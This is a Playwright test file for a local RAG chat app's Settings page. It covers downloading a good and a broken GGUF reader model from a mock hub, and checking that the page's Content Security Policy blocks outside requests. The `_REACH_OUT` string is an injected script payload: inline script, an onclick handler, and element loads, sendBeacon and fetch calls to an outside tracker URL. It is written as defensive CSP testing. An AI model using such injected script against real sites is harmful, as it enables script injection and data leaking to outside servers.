"""The Settings page in a real browser: a reader is downloaded and used. The browser's policy holds on every page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from rag import load_settings
from rag.models import weights
from tests import hub
from tests.browser.chat import MILLISECONDS, NEEDS_CHROMIUM, ask, open_page, press, serving, settled, sign_in
from tests.conftest import READER

pytestmark = NEEDS_CHROMIUM
_GOOD, _BAD = "desk/readers-GGUF/good.gguf", "desk/readers-GGUF/bad.gguf"


@pytest.fixture(scope="module")
def hugging_face() -> Iterator[hub.Hub]:
    with hub.serve() as running:
        content = weights.find(READER, "reader").path.read_bytes()
        running.repositories = {"desk/readers-GGUF": {"good.gguf": content, "bad.gguf": b"GGUF and nothing more"}}
        yield running


@pytest.fixture(scope="module")
def address(home: Path, hugging_face: hub.Hub) -> Iterator[str]:
    """The address of a chat that downloads from `hugging_face`."""
    with pytest.MonkeyPatch.context() as patch:
        hub.forget_hugging_face(patch, home / "hf")
        patch.setenv("HF_ENDPOINT", hugging_face.url)
        with serving(home) as served:
            yield served


def name_reader(page: Page, name: str) -> None:
    """Name another reader under "Another model"."""
    settled(page)
    field = page.get_by_label("File or folder on this machine")
    if not field.is_visible():
        page.get_by_text("Another model", exact=True).click()
    field.fill(name)
    field.press("Enter")
    expect(page.get_by_role("button", name="Use this model")).to_be_enabled()
    settled(page)
    option = page.get_by_role("option", name="Reader")
    for _ in range(10):
        page.get_by_label("Use as").click()
        try:
            option.click(timeout=3000)
        except PlaywrightTimeout:
            # The list closed because the page was drawn again.
            continue
        return
    raise AssertionError("the list has no readers")


def test_a_downloaded_reader_answers_without_a_restart_and_a_broken_one_changes_nothing(
    browser: Browser, address: str, hugging_face: hub.Hub, home: Path
) -> None:
    page = open_page(browser, f"{address}/settings")
    for name in (_GOOD, _BAD):
        name_reader(page, name)
        press(page, "Download this model")
        expect(page.get_by_text(f"{name}: Downloaded and verified.")).to_be_visible(timeout=MILLISECONDS)
        name_reader(page, name)
        press(page, "Use this model")
        said = f"{name}: Saved and in use." if name == _GOOD else "is not a model that llama.cpp can load"
        expect(page.get_by_text(said)).to_be_visible(timeout=MILLISECONDS)
        press(page, "Dismiss")
    assert {request.partition(" ")[2].split("/")[1] for request in hugging_face.requests} == {"api", "desk", "cdn"}
    assert load_settings({"home": home}, {}).reader == _GOOD
    page.get_by_test_id("stSidebarNavLink").filter(has_text="Ask").click()
    assert "Karachi" in ask(page, "Which cities does the gas pipeline join?").inner_text()
    page.close()


_REACH_OUT = """async url => {
    for (const tag of ["img", "script", "iframe", "video"]) {
        const element = document.createElement(tag); element.src = `${url}/${tag}`; document.body.append(element);
    }
    const style = document.createElement("style");
    style.textContent = `body { background: url(${url}/style) }`; document.head.append(style);
    const inline = document.createElement("script");
    inline.textContent = "window.hacked = 1"; document.body.append(inline);
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.hacked = 1"); document.body.append(button); button.click();
    navigator.sendBeacon(`${url}/beacon`, "x");
    try { await fetch(`${url}/fetch`) } catch { return "refused" }
}"""


def test_even_markup_inside_a_page_reaches_no_other_server(
    browser: Browser, address: str, tracker: tuple[str, list[str]]
) -> None:
    url, hits = tracker
    page = open_page(browser, f"{address}/settings")
    refused = page.evaluate(_REACH_OUT, url)
    page.wait_for_timeout(1000)

    assert refused == "refused"
    assert hits == []
    assert page.evaluate("window.hacked") is None
    page.goto(f"{url}/by-hand")
    assert hits[0] == "/by-hand", "the server can be reached"
    page.close()


def test_the_pages_do_nothing_that_their_policy_forbids(browser: Browser, address: str) -> None:
    page = browser.new_page()
    sign_in(page, address)
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    page.goto(address)
    links = page.get_by_test_id("stSidebarNavLink")
    expect(links.first).to_be_visible(timeout=MILLISECONDS)
    for link in links.all():
        link.click()
        expect(page.get_by_role("heading", level=1).first).to_be_visible(timeout=MILLISECONDS)
        page.wait_for_timeout(500)

    assert [message for message in messages if "Content Security Policy" in message] == []
    page.close()
